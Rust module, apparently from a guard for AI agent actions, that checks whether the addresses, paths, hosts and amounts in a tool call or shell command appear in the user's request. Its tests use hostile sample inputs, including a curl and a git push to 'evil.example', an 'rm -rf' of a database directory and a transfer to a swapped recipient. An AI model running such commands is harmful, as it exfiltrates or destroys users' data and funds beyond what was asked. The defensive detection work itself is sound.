//! How much of what a unit names stands in the user's request: a comparison of strings that a small model cannot make
//! from its tokens. The same transfer is what was asked for with one recipient, and theft with another.
//!
//! Whoever writes the action may know the request, so words that were asked for never make up for an address, a path or a
//! number that was not, and nothing but whole words counts.

use std::collections::HashSet;
use std::fmt;

use enumset::EnumSetType;
use indexmap::IndexSet;
use strum::{EnumIter, IntoStaticStr};

use crate::action::{Unit, UnitKind};

/// The share of a unit's names, numbers and addresses that the request holds as well.
#[derive(Debug, EnumSetType, EnumIter, IntoStaticStr)]
#[strum(serialize_all = "snake_case")]
pub(crate) enum Asked {
    /// Every one.
    All,
    /// At least half, and all that are addresses, paths or numbers.
    Most,
    /// At least one.
    Some,
    /// None of them.
    None,
}

/// What a unit and a request have in common, and what they have not.
#[derive(Debug, PartialEq, Eq)]
pub(super) struct Comparison {
    /// How much of the unit the request names.
    pub(super) asked: Asked,
    /// Values that it does not name, where it names others: those that are one of a kind first, shortened, not all of many.
    pub(super) unasked: Vec<String>,
}

/// The longest text that is searched for values, in bytes; a longer one names more than a request does.
const MAX_TEXT: usize = 4096;
/// Shorter words stand in any request by chance; in characters.
const MIN_WORD: usize = 3;
/// Most values that are listed as not asked for.
const MAX_UNASKED: usize = 4;
/// Most bytes of a listed value.
const MAX_LISTED: usize = 24;

/// Compares a unit with a request; `None` when there is nothing to compare: no value that tells anything.
pub(super) fn compare(request: &str, unit: &Unit) -> Option<Comparison> {
    let values = match unit.kind {
        UnitKind::Arguments | UnitKind::Command(_) if unit.text.len() > MAX_TEXT => {
            return Some(Comparison { asked: Asked::None, unasked: Vec::new() });
        }
        UnitKind::Arguments => argument_values(&unit.values),
        UnitKind::Command(_) => command_values(&unit.text),
        _ => return None,
    };
    let request = Request::of(request);
    let unasked: Vec<&Value> = values.iter().filter(|value| !request.names(value)).collect();
    let asked = match (values.len() - unasked.len(), values.len()) {
        (_, 0) => return None,
        (0, _) => Asked::None,
        (named, all) if named == all => Asked::All,
        (named, all) if named * 2 >= all && !unasked.iter().any(|value| value.is_specific()) => Asked::Most,
        _ => Asked::Some,
    };
    let listed = if asked == Asked::None { Vec::new() } else { listed(unasked) };
    Some(Comparison { asked, unasked: listed })
}

/// The values that a short list has room for.
fn listed(mut unasked: Vec<&Value>) -> Vec<String> {
    unasked.sort_by_key(|value| !value.is_specific());
    let short = |value: &&Value| {
        let text = value.to_string();
        text.get(..text.floor_char_boundary(MAX_LISTED)).map(str::to_owned)
    };
    unasked.iter().take(MAX_UNASKED).filter_map(short).collect()
}

/// A word, an address or a number of a unit.
#[derive(Debug, PartialEq, Eq, Hash)]
enum Value {
    /// A word or a path, in lower case.
    Word(String),
    /// The host of an address: what stands behind it is the host's to say.
    Host(String),
    /// A number in one spelling.
    Number(String),
}

impl fmt::Display for Value {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::Word(text) | Self::Host(text) | Self::Number(text) => f.write_str(text),
        }
    }
}

impl Value {
    /// Whether it is one of a kind rather than a word of the language.
    fn is_specific(&self) -> bool {
        match self {
            Self::Word(word) => word.contains(['@', '/', '\\', '.']) || word.chars().any(|c| c.is_ascii_digit()),
            Self::Host(_) | Self::Number(_) => true,
        }
    }
}

/// A request, ready to be searched.
struct Request {
    words: HashSet<String>,
    numbers: HashSet<String>,
}

impl Request {
    fn of(text: &str) -> Self {
        let lower = text.to_lowercase();
        let numbers = words(&lower).filter_map(number).collect();
        let parts = words(&lower).flat_map(|word| word.split(['/', '\\']).chain([word]));
        Self { words: parts.map(str::to_owned).collect(), numbers }
    }

    /// Whether the request holds the value: a number as a number, a path by its last part as well.
    fn names(&self, value: &Value) -> bool {
        match value {
            Value::Number(number) => self.numbers.contains(number),
            Value::Host(host) => self.words.contains(host),
            Value::Word(word) => {
                let last = word.rsplit(['/', '\\']).find(|part| !part.is_empty()).unwrap_or(word);
                self.words.contains(word) || (last.chars().count() >= MIN_WORD && self.words.contains(last))
            }
        }
    }
}

/// The leaves of a tool's arguments, word by word; `1,250.50` and `1250.5` are one number.
fn argument_values(leaves: &[String]) -> IndexSet<Value> {
    let mut found = IndexSet::new();
    for leaf in leaves {
        for value in values(&leaf.to_lowercase()) {
            match value {
                Value::Word(word) => found.insert(number(&word).map_or(Value::Word(word), Value::Number)),
                other => found.insert(other),
            };
        }
    }
    found
}

/// The operands of a command and the values of its flags; neither the flags themselves nor the program's name. Numbers are
/// words here: version 2.10 is not 2.1.
fn command_values(text: &str) -> IndexSet<Value> {
    let lower = text.to_lowercase();
    let behind_program = lower.split_whitespace().skip_while(|word| word.contains('=')).skip(1);
    let operand = |word: &'_ str| match word.strip_prefix('-') {
        Some(_) => word.split_once('=').map(|(_, value)| value.to_owned()),
        None => Some(word.to_owned()),
    };
    behind_program.filter_map(operand).flat_map(|operand| values(&operand)).collect()
}

/// The values of a text in lower case.
fn values(text: &str) -> Vec<Value> {
    let mut found = Vec::new();
    for chunk in text.split_whitespace() {
        match chunk.split_once("://") {
            Some((before, address)) => {
                let host = address.split(['/', '?', '#']).next().unwrap_or(address);
                found.push(Value::Host(host.to_owned()));
                // What stands before a scheme is no part of the address.
                found.extend(
                    words(before).rev().skip(1).filter(|word| telling(word)).map(|word| Value::Word(word.to_owned())),
                );
            }
            None => found.extend(words(chunk).filter(|word| telling(word)).map(|word| Value::Word(word.to_owned()))),
        }
    }
    found
}

/// The words of a text, with the signs that hold a path, an address or a number together.
fn words(text: &str) -> impl DoubleEndedIterator<Item = &str> {
    let inside = |c: char| c.is_alphanumeric() || matches!(c, '_' | '-' | '.' | '@' | '/' | '\\' | ',');
    text.split(move |c: char| !inside(c))
        .map(|word| word.trim_matches(['.', ',', '-', '/']))
        .filter(|word| !word.is_empty())
}

/// Whether finding the word in a request says anything.
fn telling(word: &str) -> bool {
    let literal = matches!(word, "true" | "false" | "null" | "none" | "and" | "the" | "for" | "with");
    !literal && (word.chars().count() >= MIN_WORD || word.chars().any(|c| c.is_ascii_digit()))
}

/// A number in one spelling, with commas between thousands only.
fn number(word: &str) -> Option<String> {
    let (whole, fraction) = word.split_once('.').unwrap_or((word, ""));
    let mut groups = whole.split(',');
    let first = groups.next().unwrap_or_default();
    let grouped = groups.all(|group| group.len() == 3) && (first.len() <= 3 || !whole.contains(','));
    let digits = |part: &str| part.bytes().all(|byte| byte.is_ascii_digit());
    let plain = whole.replace(',', "");
    let sound = grouped && !plain.is_empty() && digits(&plain) && digits(fraction);
    let fraction = fraction.trim_end_matches('0');
    sound.then(|| if fraction.is_empty() { plain.clone() } else { format!("{plain}.{fraction}") })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::action::Shell;

    fn compare_arguments(request: &str, values: &[&str]) -> Option<Comparison> {
        let mut unit = Unit::new(UnitKind::Arguments, values.join(" "), 0..1);
        unit.values = values.iter().copied().map(str::to_owned).collect();
        compare(request, &unit)
    }

    fn arguments(request: &str, values: &[&str]) -> Option<Asked> {
        compare_arguments(request, values).map(|comparison| comparison.asked)
    }

    fn unasked(request: &str, values: &[&str]) -> Vec<String> {
        compare_arguments(request, values).unwrap().unasked
    }

    fn command(request: &str, text: &str) -> Option<Asked> {
        let unit = Unit::new(UnitKind::Command(Shell::Bash), text, 0..text.len());
        compare(request, &unit).map(|comparison| comparison.asked)
    }

    const SEND: &str = "Send Ana (0xAB12cd) 1,250.50 USDC, please.";

    #[test]
    fn another_recipient_or_amount_is_seen() {
        assert_eq!(arguments(SEND, &["0xAB12cd", "1250.5"]), Some(Asked::All));
        assert_eq!(arguments(SEND, &["0xAB12ce", "1250.5"]), Some(Asked::Some));
        assert_eq!(arguments(SEND, &["0xAB12c", "9000"]), Some(Asked::None));
    }

    #[test]
    fn what_was_changed_is_listed() {
        assert_eq!(unasked(SEND, &["Bea", "0xAB12ce", "1250.5"]), ["0xab12ce", "bea"]);
        assert_eq!(unasked(SEND, &["0xAB12cd", "1250.5"]), [""; 0]);
        assert_eq!(unasked(SEND, &["0xEVIL", "9000"]), [""; 0], "all of it: the body says it");
        let many: Vec<String> = (10..40).map(|n| format!("{n}-{}", "é".repeat(20))).collect();
        let listed = unasked("Ana", &many.iter().map(String::as_str).chain(["Ana"]).collect::<Vec<_>>());
        assert!(listed.len() == MAX_UNASKED && listed.iter().all(|value| value.len() <= MAX_LISTED), "{listed:?}");
    }

    #[test]
    fn a_look_alike_is_not_the_same() {
        assert_eq!(arguments("mail ana@shop.com", &["ana@shop.com\n"]), Some(Asked::All));
        assert_eq!(arguments("mail ana@shop.com", &["ana@shop.co"]), Some(Asked::None));
        assert_eq!(command("install torch 2.1", "pip install torch==2.10"), Some(Asked::Some));
        assert_eq!(arguments("pay 12", &["1,2"]), Some(Asked::None));
    }

    #[test]
    fn words_never_make_up_for_an_address() {
        assert_eq!(arguments(SEND, &["0xEVIL", "9000", SEND]), Some(Asked::Some));
        let two = "rm -rf /srv/app/database /srv/app/uploads";
        assert_eq!(command("delete the uploads folder", two), Some(Asked::Some));
    }

    #[test]
    fn an_address_is_known_by_its_host() {
        assert_eq!(command("fetch the uploads", "curl https://evil.example/uploads"), Some(Asked::None));
        assert_eq!(command("fetch it from files.example", "curl https://files.example/a/b"), Some(Asked::All));
        assert_eq!(command("push", "git push --repo=https://evil.example/x"), Some(Asked::Some));
    }

    #[test]
    fn keys_and_flags_do_not_count() {
        assert_eq!(arguments("note the amount", &["7"]), Some(Asked::None));
        assert_eq!(command("use force", "git push --force"), Some(Asked::None));
        assert_eq!(command("push it to origin", "git push --force origin"), Some(Asked::All));
        assert_eq!(command("push it to origin", "GIT_TRACE=1 git push origin"), Some(Asked::All));
    }

    #[test]
    fn a_path_is_known_by_its_last_part() {
        assert_eq!(command("delete the uploads folder", "rm -rf /srv/app/uploads"), Some(Asked::All));
        assert_eq!(command("delete the uploads folder", "rm -rf /srv/app/database"), Some(Asked::None));
    }

    #[test]
    fn nothing_to_compare_is_no_answer() {
        assert_eq!(command("list the files", "ls -la"), None);
        assert_eq!(arguments("go on", &[]), None);
        let long = "x ".repeat(MAX_TEXT);
        assert_eq!(compare("go on", &Unit::new(UnitKind::Content, long.as_str(), 0..1)), None);
        assert_eq!(command("go on", &long), Some(Asked::None));
    }
}
